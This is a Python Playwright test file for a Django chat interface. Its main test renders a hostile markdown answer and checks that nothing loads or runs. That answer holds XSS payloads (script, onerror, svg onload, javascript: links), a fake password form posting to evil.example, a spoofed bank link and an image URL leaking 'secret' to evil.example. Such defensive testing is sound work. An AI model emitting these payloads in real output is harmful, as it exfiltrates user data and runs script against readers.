"""The page as such in a real browser: what it refuses to load, how it fits, what works under its policy."""

from __future__ import annotations

import pytest
from django.contrib.auth.models import User
from playwright.sync_api import Dialog, expect

from tests.fakes.model_script import answer
from tests.fakes.model_server import ModelServer
from tests.fakes.site import begin, browsing, sign_in

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True), pytest.mark.timeout(180)]
PHONE = {"width": 360, "height": 700}
HOSTILE = (
    "![x](https://evil.example/i.png?q=secret) <img src=https://evil.example/j.png onerror=alert(1)>\n\n"
    "<script>alert(2)</script> <svg onload=alert(3)></svg> <iframe src=https://evil.example></iframe>\n\n"
    "<div style='position:fixed;inset:0;background:url(https://evil.example/k.png)'>cover</div>\n\n"
    "<form action=https://evil.example><input name=password autofocus onfocus=alert(4)></form>\n\n"
    "[go](javascript:alert(5)) [bank](https://bank.example@evil.example/) <link rel=stylesheet href=//evil.example>\n\n"
    "```html\n<img src=https://evil.example/l.png>\n```\n\n$\\href{javascript:alert(6)}{x}$ and $x^2$\n\nThe end."
)
FORBIDDEN = ".prose :is(img, script, svg:not(.katex *), iframe, form, input, style, link, [onerror])"


def test_hostile_markdown_loads_and_runs_nothing_streamed_or_stored(
    site: str, server: ModelServer, session: str
) -> None:
    server.script(answer(HOSTILE))
    asked: list[str] = []
    dialogs: list[str] = []

    def refuse(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    with browsing(site, session) as context:
        context.on("request", lambda request: asked.append(request.url))
        context.on("dialog", refuse)
        page = begin(context, "Be evil")
        for _ in ("streamed", "stored"):
            expect(page.locator(".turn:not(.running) .prose")).to_contain_text("The end.")
            expect(page.locator(".prose .katex")).to_have_count(2)
            expect(page.locator(FORBIDDEN)).to_have_count(0)
            links = page.locator(".prose a[href]")
            assert links.evaluate_all("all => all.map((a) => a.protocol)") == ["https:"] * 2
            assert links.evaluate_all("all => all.map((a) => a.rel)") == ["noopener noreferrer nofollow"] * 2
            expect(page.locator('.prose a[data-host="evil.example"]')).to_have_count(2)
            page.reload()
    assert not dialogs
    assert {url for url in asked if not url.startswith((site, "data:"))} == set()


def test_a_phone_shows_wide_things_without_moving_sideways(site: str, server: ModelServer, session: str) -> None:
    table = "|" + " a very wide column |" * 12 + "\n|" + "---|" * 12 + "\n|" + " 1 |" * 12
    formula = " + ".join(["x^2_{long}"] * 40)
    wide = f"```python\n{'x = 1; ' * 60}\n```\n\n{table}\n\n$$ {formula} $$\n\n{'y' * 400}"
    server.script(answer(wide))
    with browsing(site, session, viewport=PHONE, has_touch=True) as context:
        page = begin(context, "Wide " + "w" * 60)
        expect(page.locator(".turn:not(.running) .formula.display .katex")).to_have_count(1)
        for box in ("document.documentElement", "document.getElementById('scroller')"):
            assert page.evaluate(f"{box}.scrollWidth <= {box}.clientWidth")
        expect(page.get_by_role("complementary", name="Conversations")).to_be_hidden()
        page.get_by_role("link", name="Conversations").click()
        expect(page.get_by_role("complementary", name="Conversations")).to_be_visible()
        page.keyboard.press("Escape")
        expect(page.get_by_role("link", name="Conversations")).to_be_focused()


def test_dark_is_kept_and_input_methods_keep_their_enter_key(site: str, server: ModelServer, session: str) -> None:
    server.script(answer("Good."))
    with browsing(site, session, color_scheme="light") as context:
        page = context.new_page()
        page.goto("/chat/")
        ground = "getComputedStyle(document.body).backgroundColor"
        light = page.evaluate(ground)
        page.get_by_role("button", name="Light or dark").click()
        assert page.evaluate(ground) != light
        page.reload(wait_until="commit")
        page.wait_for_selector("body")
        assert page.evaluate(ground) != light
        box = page.get_by_label("Message", exact=True)
        box.fill("ni")
        box.dispatch_event("keydown", {"key": "Enter", "isComposing": True})
        page.keyboard.press("Shift+Enter")
        page.keyboard.type("hao")
        expect(box).to_have_value("ni\nhao")
        page.keyboard.press("Enter")
        expect(page.locator(".turn:not(.running) .prose")).to_have_text("Good.")
        expect(page.locator(".message-text")).to_have_text("ni\nhao", use_inner_text=True)


def test_the_admin_and_the_browsable_api_work_under_the_policy(site: str, server: ModelServer) -> None:
    operator = sign_in(User.objects.create_superuser("operator"))
    paths = ("/admin/", "/admin/agent_tools/agenttool/", "/admin/agent_tools/agenttoollog/", "/admin/auth/user/add/")
    with browsing(site, operator) as context:
        page = context.new_page()
        for path in paths:
            page.goto(path)
            expect(page.locator("#content")).to_be_visible()
        page.goto("/api/agent-tools/")
        expect(page.locator(".response-info")).to_contain_text("200")


@pytest.mark.parametrize("width", [1200, 360])
def test_the_list_of_tools_opens_centred_over_the_composer(
    site: str, server: ModelServer, session: str, width: int
) -> None:
    with browsing(site, session, viewport={"width": width, "height": 800}) as context:
        page = context.new_page()
        page.goto("/chat/")
        opener = page.get_by_role("button", name="2 tools available")
        opener.click()
        expect(page.locator("#tool-list")).to_be_visible()
        boxes = [page.locator(name).bounding_box() for name in ("#tool-list", ".composer-box")]
        middles = [box["x"] + box["width"] / 2 for box in boxes if box]
        assert middles == pytest.approx([middles[0]] * 2, abs=1)
